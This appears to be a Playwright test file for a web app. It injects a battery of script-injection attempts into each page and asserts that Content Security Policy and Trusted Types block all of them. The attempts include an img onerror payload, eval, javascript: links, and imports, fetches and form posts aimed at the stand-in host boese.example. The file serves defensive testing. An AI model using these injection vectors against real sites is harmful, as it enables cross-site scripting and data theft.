import type { Page } from 'playwright-core';
import { expect, it } from 'vitest';
import { residentScreens, visitorScreens } from './visitor/screens.ts';
import { openVenue } from './visitor/venue.ts';

const venue = openVenue();

type Outcome = {
  /** What became of each injection. */
  readonly came: Record<string, string>;
  /** What ran. */
  readonly ran: readonly string[];
  /** Directives that were told to be broken. */
  readonly heard: readonly string[];
};

/** Everything by which a text could become a program; says what came of each. */
const INJECTIONS = `(async () => {
  // What the debugger calls may do more; what comes a turn later is a program like any other.
  await new Promise((resolve) => setTimeout(resolve));
  globalThis.ran = [];
  const host = document.body.appendChild(document.createElement('div'));
  const came = {};
  const attempt = async (name, injection) => {
    try { await injection(); came[name] = 'taken'; } catch (error) { came[name] = error.name; }
  };
  const heard = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => heard.push(effectiveDirective));
  const element = (name, attributes) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    return made;
  };
  const loads = (made) => new Promise((resolve, reject) => {
    made.addEventListener('load', resolve);
    made.addEventListener('error', () => reject({ name: 'not loaded' }));
    host.append(made);
  });
  const code = "ran.push('code')";
  await attempt('innerHTML', () => { host.innerHTML = '<img src=x onerror="' + code + '">'; });
  await attempt('outerHTML', () => { host.outerHTML = '<b></b>'; });
  await attempt('insertAdjacentHTML', () => host.insertAdjacentHTML('beforeend', '<b></b>'));
  await attempt('setHTMLUnsafe', () => host.setHTMLUnsafe('<b></b>'));
  await attempt('srcdoc', () => { document.createElement('iframe').srcdoc = '<b></b>'; });
  await attempt('document.write', () => document.write('<b></b>'));
  await attempt('DOMParser', () => new DOMParser().parseFromString('<b></b>', 'text/html'));
  await attempt('createContextualFragment', () => new Range().createContextualFragment('<b></b>'));
  await attempt('eval', () => (0, eval)(code));
  await attempt('Function', () => new Function(code)());
  await attempt('setTimeout', () => setTimeout(code));
  await attempt('script text', () => { document.createElement('script').textContent = code; });
  await attempt('script address', () => { document.createElement('script').src = '/first.js'; });
  await attempt('worker', () => new Worker('/first.js'));
  await attempt('import', () => import('data:text/javascript,' + code));
  await attempt('foreign import', () => import('https://boese.example/x.js'));
  await attempt('a policy', () => trustedTypes.createPolicy('ours', { createHTML: (text) => text }));
  await attempt('the default policy', () => trustedTypes.createPolicy('default', { createHTML: (text) => text }));
  await attempt('a handler', () => { host.setAttribute('onclick', code); host.click(); });
  await attempt('foreign picture', () => loads(element('img', { src: 'https://boese.example/x.png' })));
  await attempt('foreign stylesheet', () => loads(element('link', { rel: 'stylesheet', href: 'https://boese.example/x.css' })));
  await attempt('foreign connection', () => fetch('https://boese.example/'));
  await attempt('inline style', () => {
    const style = document.createElement('style');
    style.textContent = 'body { outline: 7px solid red }';
    document.head.append(style);
    if (getComputedStyle(document.body).outlineWidth !== '7px') throw { name: 'not applied' };
  });
  await attempt('base', () => {
    document.head.append(element('base', { href: 'https://boese.example/' }));
    if (!document.baseURI.includes('boese')) throw { name: 'not applied' };
  });
  const link = element('a', { href: 'javascript:' + code });
  host.append(link);
  link.click();
  const form = element('form', { action: 'https://boese.example/', method: 'post' });
  host.append(form);
  form.submit();
  await new Promise((resolve) => setTimeout(resolve, 0));
  return { came, ran, heard };
})()`;

/** A sink refuses text; the policy refuses what is not ours; and what is set by attribute comes to nothing. */
const REFUSED: Record<string, string> = {
  innerHTML: 'TypeError',
  outerHTML: 'TypeError',
  insertAdjacentHTML: 'TypeError',
  setHTMLUnsafe: 'TypeError',
  srcdoc: 'TypeError',
  'document.write': 'TypeError',
  DOMParser: 'TypeError',
  createContextualFragment: 'TypeError',
  eval: 'EvalError',
  Function: 'EvalError',
  setTimeout: 'TypeError',
  'script text': 'TypeError',
  'script address': 'TypeError',
  worker: 'TypeError',
  import: 'TypeError',
  'foreign import': 'TypeError',
  'a policy': 'TypeError',
  'the default policy': 'TypeError',
  'a handler': 'TypeError',
  'foreign picture': 'not loaded',
  'foreign stylesheet': 'not loaded',
  'foreign connection': 'TypeError',
  'inline style': 'not applied',
  base: 'not applied',
};

async function expectSealed(page: Page, path: string): Promise<void> {
  await page.goto(path);
  const { came, ran, heard } = await page.evaluate<Outcome>(INJECTIONS);
  expect({ came, ran }, path).toEqual({ came: REFUSED, ran: [] });
  for (const directive of [
    'require-trusted-types-for',
    'trusted-types',
    'script-src-elem',
    'img-src',
    'connect-src',
  ])
    expect(heard, `${path} ${directive}`).toContain(directive);
  expect(new URL(page.url()).origin).toBe(venue.server.origin);
}

it('[BR-1] [BR-2] no document lets a text become a program, or asks anything of strangers', async () => {
  const visitor = await venue.visitor('Niemand', 'desktop');
  const resident = await venue.resident('Rosa', 'desktop');
  // Each refusal is told in the console as well; what counts here is that it was one.
  for (const { device } of [visitor, resident]) device.allowProblems(/./);
  for (const { path } of visitorScreens) await expectSealed(visitor.page, path);
  for (const { path } of residentScreens) await expectSealed(resident.page, path);
  for (const path of ['/postfach', '/api/docs', '/api/openapi.json', '/api/nichts', '/config.json'])
    await expectSealed(visitor.page, path);
});
